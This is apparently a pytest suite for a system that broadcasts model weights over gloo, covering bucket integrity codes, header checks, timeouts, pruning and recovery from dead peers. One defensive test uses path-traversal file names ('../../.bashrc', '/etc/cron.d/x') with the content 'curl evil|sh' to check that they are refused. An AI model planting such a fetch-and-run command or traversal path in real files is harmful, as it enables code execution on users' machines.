"""Weights by broadcast over gloo: what arrives, what is noticed, who is waited for."""

import os
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from types import SimpleNamespace
from typing import Any

import numpy as np
import pytest
import torch

from bus.weights import UpdateAbandonedError, Weights
from bus.weights.buckets import Header, codes_from, pack, unpack, verify
from bus.weights.process_groups import Wait, client_of
from bus.weights.rendezvous import RendezvousPublisher, RendezvousReceiver, _count
from schemas.errors import ConfigError
from schemas.messages import Manifest, PolicyVersion, WeightMember, WeightUpdate

POLICY = PolicyVersion(lineage=1, version=7)
HOST = "127.0.0.1"
SOMEBODY_IS_MISSING = pytest.mark.parametrize("publisher", [3.0], indirect=True, ids=[""])


def some_weights(seed: int = 0) -> Weights:
    """Tensors of three dtypes, one larger than a bucket of 1 000 bytes, one of odd size, one without an element."""
    rng = torch.Generator().manual_seed(seed)
    tensors = {
        "a.weight": torch.randn(7, 5, generator=rng),
        "b.bytes": torch.arange(3, dtype=torch.uint8),
        "c.weight": torch.randn(40, 20, generator=rng).to(torch.bfloat16),
        "d.bias": torch.randn(3, generator=rng),
        "e.empty": torch.zeros(0, 4),
    }
    return Weights("adapter", tensors, {"adapter_config.json": "{}"})


@pytest.fixture
def publisher(request: pytest.FixtureRequest) -> Iterator[RendezvousPublisher]:
    """A trainer's end with small buckets; `SOMEBODY_IS_MISSING` makes its waits short."""
    made = RendezvousPublisher(HOST, bucket_bytes=1000, keep=2, timeout=getattr(request, "param", 30.0))
    yield made
    made.close()


def update_of(
    *boot_ids: str, update: str = "1", process_group: str = "", policy: PolicyVersion = POLICY
) -> WeightUpdate:
    """An update of these members, in a group of its own unless one is named."""
    members = [WeightMember(boot_id=boot_id, num_ranks=1) for boot_id in boot_ids]
    return WeightUpdate(update=update, process_group=process_group or update, policy=policy, members=members)


def in_thread(work: Any) -> tuple[threading.Thread, list[Any]]:
    """Runs `work` beside the test; the list gets its result or its error."""
    results: list[Any] = []

    def run() -> None:
        try:
            results.append(work())
        except Exception as error:
            results.append(error)

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    return thread, results


def never() -> None:
    """A check that lets everything go on."""


def _until(condition: Callable[[], object]) -> None:
    deadline = time.monotonic() + 60.0
    while not condition():
        assert time.monotonic() < deadline
        time.sleep(0.005)


class Clock:
    """The clock of all waits for the other end: it stands still until the test puts it forward."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.now = 0.0
        clock = SimpleNamespace(monotonic=lambda: self.now, sleep=time.sleep)
        monkeypatch.setattr("bus.weights.process_groups.time", clock)


def test_buckets_are_bounded_and_give_the_tensors_back():
    """A bucket holds neighbours up to its size, or one larger tensor; unpacked they are the same bits."""
    weights = some_weights()
    packed = pack(weights, 200)
    assert packed.header.sizes == [143, 1600, 12]  # 140 + 3, then the large one alone, then 12 + 0
    assert [[place.name for place in bucket] for bucket in packed.header.buckets] == [
        ["a.weight", "b.bytes"], ["c.weight"], ["d.bias", "e.empty"]]  # fmt: skip
    tensors = {}
    for bucket, flat in zip(packed.header.buckets, packed.bytes_of, strict=True):
        tensors |= unpack(bucket, flat)
    assert list(tensors) == list(weights.tensors)
    for name, tensor in weights.tensors.items():
        assert tensors[name].dtype == tensor.dtype
        assert torch.equal(tensors[name], tensor)


def test_a_parcel_is_a_copy():
    """Training goes on in the weights while packed weights are being sent."""
    weights = some_weights()
    packed = pack(weights, 1000)
    weights.tensors["d.bias"].add_(1)
    last = len(packed.codes) - 1
    verify(packed.key, last, packed.bytes_of[last], packed.codes[last])  # raises when the code no longer fits


def test_the_same_weights_have_the_same_digest_and_never_the_same_codes():
    """A digest tells what they are, in any run, however they are cut; a code is of no use for anything else."""
    first, again = pack(some_weights(), 1000), pack(some_weights(), 140)
    assert len(first.codes) < len(again.codes)
    assert first.header.digest == again.header.digest != pack(some_weights(1), 1000).header.digest
    assert first.key != again.key
    assert not set(first.codes) & set(again.codes)


def test_a_bucket_in_the_place_of_another_is_refused():
    """Its bytes are the trainer's, and its code too: but they are those of another number."""
    packed = pack(some_weights(), 200)
    for number in range(3):
        verify(packed.key, number, packed.bytes_of[number], packed.codes[number])
        with pytest.raises(ValueError, match="other bytes than the trainer published"):
            verify(packed.key, (number + 1) % 3, packed.bytes_of[number], packed.codes[number])


@pytest.mark.long
def test_a_bucket_of_more_than_2_gib_can_be_checked():
    """The embedding of 150 000 tokens by 8 192, in bfloat16; of zeros, which take no memory."""
    with pytest.raises(ValueError, match="bucket 0 arrived with other bytes"):
        verify(bytes(32), 0, torch.from_numpy(np.zeros(150_000 * 8192 * 2, np.uint8)), bytes(16))


def test_a_code_is_of_all_bytes_however_many_are_taken_at_once(monkeypatch: pytest.MonkeyPatch):
    """OpenSSL takes 2 GiB at most, so a large bucket is given to it in parts: each of them counts."""
    packed = pack(some_weights(), 4000)
    key, flat, code = packed.key, packed.bytes_of[0], packed.codes[0]
    monkeypatch.setattr("bus.weights.buckets.MAC_BYTES", 100)
    verify(key, 0, flat, code)
    for place in (0, 99, 100, flat.numel() - 1):
        flat[place] ^= 1
        with pytest.raises(ValueError, match="other bytes"):
            verify(key, 0, flat, code)
        flat[place] ^= 1


@pytest.mark.parametrize("text", [b"", b"00" * 31, b"00" * 33, b"0x" * 32, b"\xff" * 64])
def test_codes_that_are_not_codes_are_refused(text: bytes):
    """Anybody may have written them."""
    with pytest.raises(ValueError, match="not those of 2 buckets"):
        codes_from(text, 2)


def test_memory_of_a_version_that_nobody_reads_is_taken_again():
    """A version of the same sizes costs no new memory; one of others gets its own."""
    old = pack(some_weights(), 1000)
    new = pack(some_weights(1), 1000, old.bytes_of)
    assert [a.data_ptr() for a in new.bytes_of] == [b.data_ptr() for b in old.bytes_of]
    assert new.header == pack(some_weights(1), 1000).header
    assert pack(some_weights(1), 140, new.bytes_of).bytes_of[0].data_ptr() != new.bytes_of[0].data_ptr()


def test_a_header_that_is_not_the_manifests_is_refused():
    """The store is not authenticated; the manifest is."""
    header = pack(some_weights(), 1000).header
    assert Header.decode(header.encode(), header.digest) == header
    with pytest.raises(ValueError, match="not the one that the trainer published"):
        Header.decode(header.encode().replace(b"d.bias", b"x.bias"), header.digest)
    for nonsense in (
        b"",
        b"\xff",
        b"[]",
        b'{"content": "full"}',
        b'{"buckets": [[1]]}',
        b'{"buckets": [["a"]]}',
        b'{"content": "full", "files": ' + b"[" * 900 + b"]" * 900 + b', "buckets": []}',
        b"[" * 100_000,
    ):
        with pytest.raises(ValueError, match="header of the weights can't be read"):
            Header.decode(nonsense, header.digest)


@pytest.mark.parametrize("content", ["adapter", "full"])
@pytest.mark.parametrize("name", ["../../.bashrc", "/etc/cron.d/x", "weights.py", "adapter_model.safetensors"])
def test_a_header_with_files_of_other_names_than_the_adapters_own_is_refused(name, content):
    """Whoever may be the trainer names files, and engines write them: no name leads out of their folder."""
    header = Header(content, {name: "curl evil|sh"}, ())
    with pytest.raises(ValueError, match=r"allowed are: (adapter_config\.json|none)"):
        Header.decode(header.encode(), header.digest)
    good = Header("adapter", {"adapter_config.json": "{}"}, ())
    assert Header.decode(good.encode(), good.digest) == good
    no_text = Header("adapter", {"adapter_config.json": {"r": 4}}, ())
    with pytest.raises(ValueError, match="are no texts by name"):
        Header.decode(no_text.encode(), no_text.digest)


@pytest.mark.parametrize("host", [HOST, "localhost", "::1", "[::1]"])
def test_all_members_get_every_tensor(host: str):
    """Two engines, one broadcast: the same bits, and nobody is missing; whatever kind of address the trainer has."""
    publisher, weights = RendezvousPublisher(host, bucket_bytes=1000, keep=2, timeout=30.0), some_weights()
    manifest = publisher.publish(POLICY, weights)
    update = update_of("A", "B")
    ends = [RendezvousReceiver(boot_id, host, 30.0) for boot_id in ("A", "B")]
    running = [in_thread(lambda end=end: end.receive(manifest, update, never)) for end in ends]
    publisher.send(update, never)
    for thread, results in running:
        thread.join(60.0)
        assert results[0].files == weights.files
        assert results[0].content == "adapter"
        for name, tensor in weights.tensors.items():
            assert torch.equal(results[0].tensors[name], tensor)


def test_a_trainer_that_listens_everywhere_is_reached_under_its_name() -> None:
    """As on a machine behind NAT, or one whose address changes: its stores are bound to no address of their own."""
    publisher = RendezvousPublisher("localhost", bucket_bytes=1000, keep=2, timeout=30.0, listen="0.0.0.0")
    manifest = publisher.publish(POLICY, some_weights())
    assert manifest.uri.startswith("tcp://localhost:")
    reached = manifest.model_copy(update={"uri": manifest.uri.replace("localhost", "127.0.0.2")})
    assert RendezvousReceiver("A", HOST, 30.0).header(reached, Wait(never, 30.0))[0].digest == manifest.digest
    publisher.close()


@SOMEBODY_IS_MISSING
def test_an_address_of_another_machine_is_named_with_its_key(publisher: RendezvousPublisher) -> None:
    """An engine behind NAT advertises its gateway's address, where gloo can't listen; a trainer can't either."""
    manifest = publisher.publish(POLICY, some_weights())
    refused = threading.Event()

    def until_refused() -> None:
        if refused.is_set():
            raise UpdateAbandonedError("the test is over")

    thread, _ = in_thread(lambda: publisher.send(update_of("A"), until_refused))
    with pytest.raises(ConfigError, match=r"bus.advertise_host: 203.0.113.7 .*use weights.channel: filesystem"):
        RendezvousReceiver("A", "203.0.113.7", 30.0).receive(manifest, update_of("A"), never)
    refused.set()
    thread.join(60.0)
    with pytest.raises(ConfigError, match=r"bus.host: 203.0.113.7 can't be bound for weights"):
        RendezvousPublisher("203.0.113.7", bucket_bytes=1000, keep=2, timeout=30.0).publish(POLICY, some_weights())


@pytest.mark.slow
def test_a_group_is_kept_while_its_members_stay(publisher: RendezvousPublisher):
    """To meet costs more than to send."""
    end = RendezvousReceiver("A", HOST, 30.0)
    groups = []
    for version in (7, 8):
        policy = PolicyVersion(lineage=1, version=version)
        manifest = publisher.publish(policy, some_weights(version))
        update = update_of("A", update=str(version), process_group="1", policy=policy)
        thread, results = in_thread(lambda m=manifest, u=update: end.receive(m, u, never))
        publisher.send(update, never)
        thread.join(60.0)
        assert torch.equal(results[0].tensors["a.weight"], some_weights(version).tensors["a.weight"])
        groups.append(publisher.process_group)
    assert groups[0] is groups[1] is not None


@pytest.mark.slow
def test_a_manifest_of_other_weights_is_noticed_before_anything_is_received(publisher: RendezvousPublisher):
    """The digest of the manifest is that of the header."""
    manifest = publisher.publish(POLICY, some_weights())
    other = manifest.model_copy(update={"digest": "0" * 64})
    with pytest.raises(ValueError, match="not the one that the trainer published"):
        RendezvousReceiver("A", HOST, 30.0).receive(other, update_of("A"), never)


@pytest.mark.slow
def test_bytes_that_changed_on_the_wire_are_refused(publisher: RendezvousPublisher):
    """Nothing of such a version is handed over, and its engine never says that it has got it."""
    manifest = publisher.publish(POLICY, some_weights())
    publisher.buckets(POLICY)[1][17] ^= 1
    update = update_of("A")
    thread, results = in_thread(lambda: RendezvousReceiver("A", HOST, 30.0).receive(manifest, update, never))
    stop = threading.Event()

    def until_stopped() -> None:
        if stop.is_set():
            raise UpdateAbandonedError("the test is over")

    sent_thread, sent = in_thread(lambda: publisher.send(update, until_stopped))
    thread.join(60.0)
    stop.set()
    assert isinstance(results[0], ValueError)
    assert "bucket 1 arrived with other bytes" in str(results[0])
    sent_thread.join(60.0)
    assert isinstance(sent[0], UpdateAbandonedError)  # nobody said "got"


def test_an_old_version_is_held_until_nobody_may_ask_for_it(publisher: RendezvousPublisher):
    """Pruning keeps the newest two, and all that an evaluation may still ask for."""
    for version in range(1, 6):
        publisher.publish(PolicyVersion(lineage=1, version=version), some_weights(version))
    publisher.prune(keep_version=3)
    assert [manifest.policy.version for manifest in publisher.published()] == [3, 4, 5]
    gone = Manifest(
        policy=PolicyVersion(lineage=1, version=1), channel="rendezvous", content="full", uri=publisher.address,
        digest="", num_bytes=0,
    )  # fmt: skip
    with pytest.raises(UpdateAbandonedError, match=r"no longer holds 1\.1"):
        RendezvousReceiver("A", HOST, 30.0).receive(gone, update_of("A"), never)


@SOMEBODY_IS_MISSING
@pytest.mark.slow
def test_a_member_that_never_comes_is_given_up_at_once_when_a_newer_update_is_named(publisher: RendezvousPublisher):
    """Nobody waits for the timeout when the packer knows better."""
    publisher.publish(POLICY, some_weights())
    started = time.monotonic()

    def newer_update() -> None:
        if time.monotonic() - started > 0.3:
            raise UpdateAbandonedError("a newer update is named")

    with pytest.raises(UpdateAbandonedError, match="newer"):  # and not "did not meet"
        publisher.send(update_of("nobody"), newer_update)


@pytest.mark.slow
def test_a_member_that_never_comes_ends_the_wait_and_is_named():
    """Without a word from the packer the timeout bounds the meeting. Who came leaves it when there is a newer one."""
    # a member comes in milliseconds, or in seconds on a busy machine
    publisher = RendezvousPublisher(HOST, bucket_bytes=1000, keep=2, timeout=12.0)
    manifest, update = publisher.publish(POLICY, some_weights()), update_of("A", "B")
    thread, results = in_thread(lambda: RendezvousReceiver("A", HOST, 30.0).receive(manifest, update, never))
    with pytest.raises(UpdateAbandonedError, match=r"did not meet") as caught:
        publisher.send(update, never)
    assert caught.value.missed == ["B"]
    publisher._timeout = 0.5
    with pytest.raises(UpdateAbandonedError, match=r"did not meet") as caught:
        publisher.send(update_of("B", update="2"), never)
    assert caught.value.missed == []  # who alone was to come is behind nobody
    thread.join(60.0)
    assert isinstance(results[0], UpdateAbandonedError)


@pytest.mark.slow
@SOMEBODY_IS_MISSING
def test_a_group_that_was_given_up_is_never_entered_again(publisher: RendezvousPublisher):
    """Its members may have left it: that is said at once, and the packer names another group."""
    publisher.publish(POLICY, some_weights())

    def newer_update() -> None:
        raise UpdateAbandonedError("a newer update is named")

    with pytest.raises(UpdateAbandonedError, match="newer"):
        publisher.send(update_of("A", process_group="1"), newer_update)
    with pytest.raises(UpdateAbandonedError, match="group 1 has been given up"):
        publisher.send(update_of("A", update="2", process_group="1"), never)


def test_a_trainer_that_starts_anew_is_met_anew_in_the_same_group(publisher: RendezvousPublisher):
    """Its store has another port, and the packer may not have noticed: between two updates nothing fails."""
    end = RendezvousReceiver("A", HOST, 30.0)
    for trainer in (publisher, RendezvousPublisher(HOST, bucket_bytes=1000, keep=2, timeout=30.0)):
        manifest, update = trainer.publish(POLICY, some_weights()), update_of("A", process_group="1")
        thread, results = in_thread(lambda m=manifest, u=update: end.receive(m, u, never))
        trainer.send(update, never)
        thread.join(60.0)
        assert torch.equal(results[0].tensors["a.weight"], some_weights().tensors["a.weight"])


@pytest.mark.slow
def test_a_trainer_that_is_frozen_is_not_waited_for():
    """Its machine still takes connections, and nobody answers: the engine serves on and hears what the packer says."""
    manifest = RendezvousPublisher(HOST, bucket_bytes=1000, keep=2, timeout=5.0).publish(POLICY, some_weights())

    def newer_update() -> None:
        raise UpdateAbandonedError("a newer update is named")

    before = set(threading.enumerate())
    with socket.create_server((HOST, 0)) as frozen:
        frozen_at = manifest.model_copy(update={"uri": f"tcp://{HOST}:{frozen.getsockname()[1]}"})
        with pytest.raises(UpdateAbandonedError, match="newer"):  # and not weights.timeout
            RendezvousReceiver("A", HOST, 2.0).receive(frozen_at, update_of("A"), newer_update)
    for thread in set(threading.enumerate()) - before:  # one still waits: bounded by weights.timeout
        thread.join(60.0)


def test_a_trainer_that_dies_before_it_hears_got_ends_the_update(publisher: RendezvousPublisher):
    """It ends as any other does: the engine lives, and the next trainer's versions are received."""
    manifest, end = publisher.publish(POLICY, some_weights()), RendezvousReceiver("A", HOST, 30.0)
    thread, _ = in_thread(lambda: end.receive(manifest, update_of("A", process_group="1"), never))
    publisher.send(update_of("A", process_group="1"), never)
    thread.join(60.0)

    class Dead:
        def set(self, key: str, value: str) -> None:
            raise RuntimeError("Broken pipe")

    over = threading.Event()

    def check() -> None:
        if over.is_set():
            raise UpdateAbandonedError("the test is over")

    assert end.process_group is not None
    end.process_group.store = Dead()
    again = update_of("A", update="2", process_group="1")
    sender, _ = in_thread(lambda: publisher.send(again, check))
    with pytest.raises(UpdateAbandonedError, match="trainer is gone"):
        end.receive(manifest, again, never)
    over.set()
    sender.join(60.0)


def test_memory_is_kept_from_version_to_version(publisher: RendezvousPublisher):
    """Of the trainer's end and of the engine's; what is handed over is valid until the next version is received."""
    end, sent, received = RendezvousReceiver("A", HOST, 30.0), [], []
    for version in range(1, 7):
        policy = PolicyVersion(lineage=1, version=version)
        publisher.prune(version)
        manifest = publisher.publish(policy, some_weights(version))
        update = update_of("A", update=str(version), process_group="1", policy=policy)
        thread, results = in_thread(lambda m=manifest, u=update: end.receive(m, u, never))
        publisher.send(update, never)
        thread.join(60.0)
        assert torch.equal(results[0].tensors["c.weight"], some_weights(version).tensors["c.weight"])
        sent.append(publisher.buckets(policy))
        received.append(end.staging)
    assert all(flats is received[0] for flats in received)
    assert [flats is sent[i] for i, flats in enumerate(sent[3:])] == [True] * 3  # 2 are kept beside the new one


def test_an_engine_that_gives_an_update_up_takes_new_memory(publisher: RendezvousPublisher):
    """Gloo may still write to what was under way."""
    manifest, end = publisher.publish(POLICY, some_weights()), RendezvousReceiver("A", HOST, 30.0)
    other_key = manifest.model_copy(update={"key": "00" * 32})
    thread, results = in_thread(lambda: end.receive(other_key, update_of("A"), never))

    def until_it_has_left() -> None:
        if not thread.is_alive():
            raise UpdateAbandonedError("the engine has left")

    with pytest.raises(UpdateAbandonedError):
        publisher.send(update_of("A"), until_it_has_left)
    thread.join(60.0)
    assert isinstance(results[0], ValueError)
    assert end.staging == ()


@pytest.mark.slow
@SOMEBODY_IS_MISSING
def test_memory_of_a_version_that_was_sent_in_vain_is_never_taken_again(publisher: RendezvousPublisher):
    """Gloo may still read it."""
    publisher.publish(POLICY, some_weights())
    in_vain = publisher.buckets(POLICY)

    def newer_update() -> None:
        raise UpdateAbandonedError("a newer update is named")

    with pytest.raises(UpdateAbandonedError, match="newer"):
        publisher.send(update_of("nobody"), newer_update)
    for version in range(8, 14):
        policy = PolicyVersion(lineage=1, version=version)
        publisher.prune(version)
        publisher.publish(policy, some_weights(version))
        assert publisher.buckets(policy) is not in_vain
    assert POLICY not in [manifest.policy for manifest in publisher.published()]


@pytest.mark.slow
@SOMEBODY_IS_MISSING
def test_a_version_that_is_being_sent_is_not_pruned(publisher: RendezvousPublisher):
    """Members that have not read its header yet still find it; afterwards it goes."""
    manifest = publisher.publish(POLICY, some_weights())
    over = threading.Event()
    waiting = threading.Event()

    def check() -> None:
        waiting.set()
        over.wait(60.0)  # here, and not until the timeout: the version is being sent until the test says so
        raise UpdateAbandonedError("the test is over")

    sender, _ = in_thread(lambda: publisher.send(update_of("A"), check))
    assert waiting.wait(60.0)
    for version in (8, 9):
        publisher.publish(PolicyVersion(lineage=1, version=version), some_weights())
    publisher.prune(keep_version=100)
    assert [m.policy.version for m in publisher.published()] == [7, 8, 9]
    assert RendezvousReceiver("A", HOST, 30.0).header(manifest, Wait(never, 30.0))[0].digest == manifest.digest
    over.set()
    sender.join(60.0)
    publisher.prune(keep_version=100)
    assert [m.policy.version for m in publisher.published()] == [8, 9]


def test_what_lies_in_the_stores_does_not_grow(publisher: RendezvousPublisher):
    """Engines come and go: headers of the versions held and one group's name; of the group what its members need."""
    keys = []
    for version in range(6):
        policy, boot_id = PolicyVersion(lineage=1, version=version), f"engine-{version}"
        publisher.prune(version)
        manifest, update = (
            publisher.publish(policy, some_weights()),
            update_of(boot_id, update=str(version), policy=policy),
        )
        thread, _ = in_thread(
            lambda m=manifest, u=update, b=boot_id: RendezvousReceiver(b, HOST, 30.0).receive(m, u, never)
        )
        publisher.send(update, never)
        thread.join(60.0)
        keys.append(publisher.num_keys)
    # one for each of 1 to 3 versions (2 kept, then one published), and the group
    assert [own for own, _ in keys] == [2, 3, 4, 4, 4, 4]
    assert len({of_group for _, of_group in keys}) == 1


def test_an_engine_that_stops_early_waits_for_nobody(publisher: RendezvousPublisher, monkeypatch: pytest.MonkeyPatch):
    """With a bucket under way that never comes; what gloo still holds of it goes when gloo's own timeout is over."""
    # gloo's timeout is for the members to meet too, on a busy machine
    monkeypatch.setattr("bus.weights.process_groups.OWN_TIMEOUTS", 10.0 / 30.0)
    before = set(threading.enumerate())
    manifest, update = publisher.publish(POLICY, some_weights()), update_of("A")
    flats = publisher.buckets(POLICY)
    assert len(flats) == 3

    def send_two() -> None:
        wait = Wait(never, 30.0)
        process_group = publisher.process_group_of(update, wait)
        for flat in flats[:2]:
            process_group.broadcast(flat, wait).wait()

    sender, sent = in_thread(send_two)

    def until_sent() -> None:
        if not sender.is_alive():
            raise UpdateAbandonedError("the actor ends")

    started = time.monotonic()
    with pytest.raises(UpdateAbandonedError, match="the actor ends"):
        RendezvousReceiver("A", HOST, 30.0).receive(manifest, update, until_sent)
    assert time.monotonic() - started < 25.0
    assert sent == [None], "the two buckets were not sent"
    left = [thread for thread in threading.enumerate() if thread.name == "weights-left" and thread not in before]
    assert len(left) == 1
    left[0].join(60.0)
    assert not left[0].is_alive()


@pytest.mark.parametrize("num_sent", [6, 4])
def test_an_update_is_given_up_when_nothing_comes_any_more(num_sent: int, monkeypatch: pytest.MonkeyPatch):
    """A large model may take long, as long as its buckets come: `weights.timeout` is for a bucket that does not."""
    clock, end = Clock(monkeypatch), RendezvousReceiver("A", HOST, 20.0)
    publisher = RendezvousPublisher(HOST, bucket_bytes=4000, keep=2, timeout=30.0)
    manifest = publisher.publish(POLICY, Weights("full", {f"layer.{i}": torch.zeros(1000) for i in range(6)}))
    update, wait, over = update_of("A"), Wait(never, 30.0), threading.Event()

    def trickle() -> None:
        process_group = publisher.process_group_of(update, wait)
        for number, flat in enumerate(publisher.buckets(POLICY)[:num_sent]):
            process_group.broadcast(flat, wait).wait()
            _until(lambda number=number: end.progress == number + 3)  # after the header and the meeting
            clock.now += 15.0  # 90 s of sending are more than the 20 s of the timeout
        clock.now += 15.0
        over.wait(60.0)

    sender, _ = in_thread(trickle)
    thread, results = in_thread(lambda: end.receive(manifest, update, never))
    thread.join(60.0)
    over.set()
    sender.join(60.0)
    if num_sent == 6:
        assert isinstance(results[0], Weights)
    else:
        assert isinstance(results[0], UpdateAbandonedError)
        assert "a bucket was not transferred within weights.timeout 20 s" in str(results[0])


def test_the_first_bucket_has_its_time_from_the_meeting(monkeypatch: pytest.MonkeyPatch):
    """Who had to be waited for has taken nothing from what comes then."""
    clock, end = Clock(monkeypatch), RendezvousReceiver("A", HOST, 30.0)
    publisher = RendezvousPublisher(HOST, bucket_bytes=4000, keep=2, timeout=30.0)
    manifest = publisher.publish(POLICY, some_weights())
    update, wait = update_of("A"), Wait(never, 30.0)
    thread, results = in_thread(lambda: end.receive(manifest, update, never))
    _until(lambda: end.progress == 1)  # the header
    clock.now += 20.0
    process_group = publisher.process_group_of(update, wait)
    _until(lambda: end.progress == 2)  # the meeting
    clock.now += 20.0
    for flat in publisher.buckets(POLICY):
        process_group.broadcast(flat, wait).wait()
    thread.join(60.0)
    assert isinstance(results[0], Weights)


def test_nonsense_in_the_place_of_a_groups_address_ends_the_update_alone(publisher: RendezvousPublisher):
    """The store is not authenticated: the engine lives, and waits for what the packer names next."""
    manifest = publisher.publish(POLICY, some_weights())
    store = client_of(manifest.uri, 30.0)
    for nonsense in ("tcp://nowhere", "\x00", "tcp://[::1:x", "tcp://127.0.0.1:99999", "tcp://127.0.0.1:-5"):
        store.set("group/1", nonsense)
        with pytest.raises(UpdateAbandonedError, match="did not meet"):
            RendezvousReceiver("A", HOST, 30.0).receive(manifest, update_of("A", process_group="1"), never)


@pytest.mark.parametrize(
    ("said", "count"),
    [(b"3.1 7", 7), (b"3.1 0", 0), (b"3.2 7", -1), (b"", -1), (b"7", -1), (b"3.1 x", -1), (b"\xff \xff", -1)],
)
def test_what_anybody_may_write_into_the_store_is_no_error(said: bytes, count: int):
    """Only a number of buckets of this very update counts: the store is not authenticated."""
    assert _count(said, update_of("A", update="3.1")) == count


@pytest.mark.parametrize("publisher", [120.0], indirect=True, ids=[""])  # a process that imports torch is waited for
@pytest.mark.parametrize("how", [signal.SIGSTOP, signal.SIGKILL])
@pytest.mark.slow
def test_the_others_get_the_version_in_a_new_group_when_a_member_freezes_or_dies(
    publisher: RendezvousPublisher, how: signal.Signals
):
    """In the middle of a broadcast: the trainer and the other engine leave it and go on without the victim."""
    big = Weights("full", {f"layer.{i}": torch.randn(1 << 20) for i in range(24)})  # 24 buckets of 4 MiB
    manifest = publisher.publish(POLICY, big)
    command = [sys.executable, "-m", "tests.bus.weights_peer", manifest.model_dump_json(), "1", "B", "A", "B"]
    environment = os.environ | {"GRPO_STOP_BEFORE": "1"}
    victim = subprocess.Popen(command, stdout=subprocess.PIPE, env=environment, text=True)
    assert victim.stdout is not None
    first = update_of("A", "B")
    end = RendezvousReceiver("A", HOST, 120.0)
    given_up = threading.Event()

    def check() -> None:
        if given_up.is_set():
            raise UpdateAbandonedError("a newer update is named")

    thread, results = in_thread(lambda: end.receive(manifest, first, check))
    sender, sent = in_thread(lambda: publisher.send(first, check))
    assert victim.stdout.readline() == "bucket 0\n"
    _until(lambda: publisher._counts(first)["A"] > 1)  # more than the victim has
    if how is signal.SIGKILL:
        victim.kill()
    given_up.set()  # the packer has seen its lease end and names a newer update
    sender.join(60.0)
    thread.join(60.0)
    assert isinstance(sent[0], UpdateAbandonedError)
    assert sent[0].missed == ["B"]
    assert isinstance(results[0], UpdateAbandonedError)
    second = update_of("A", update="2")
    thread, results = in_thread(lambda: end.receive(manifest, second, never))
    publisher.send(second, never)
    thread.join(60.0)
    assert torch.equal(results[0].tensors["layer.23"], big.tensors["layer.23"])
    victim.kill()
    victim.wait(60.0)
